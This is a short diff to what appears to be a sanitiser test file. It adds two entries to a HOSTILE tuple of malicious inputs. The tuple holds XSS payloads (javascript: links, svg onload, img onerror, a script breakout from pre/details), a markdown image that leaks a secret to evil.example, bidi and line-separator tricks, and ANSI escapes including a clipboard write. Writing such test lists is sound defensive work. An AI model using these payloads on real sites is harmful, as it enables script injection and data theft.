@@ -20,6 +20,8 @@ HOSTILE = (
     '<a href="javascript:alert(1)">link</a>',
     "![p](https://evil.example/p.png?leak=secret)",
     "<svg onload=alert(1)>",
+    "<img src=\"http://127.0.0.1:9/leak.png\" onerror=\"document.body.setAttribute('data-pwned','1')\">",
+    "</pre></details><script>document.title='PWNED'</script>",
     "line\u2028sep\u2029para",
     "bidi \u202eevil\u202c end",
     "ansi \x1b[31mred\x1b[0m \x1b]52;c;AAAA\x07",
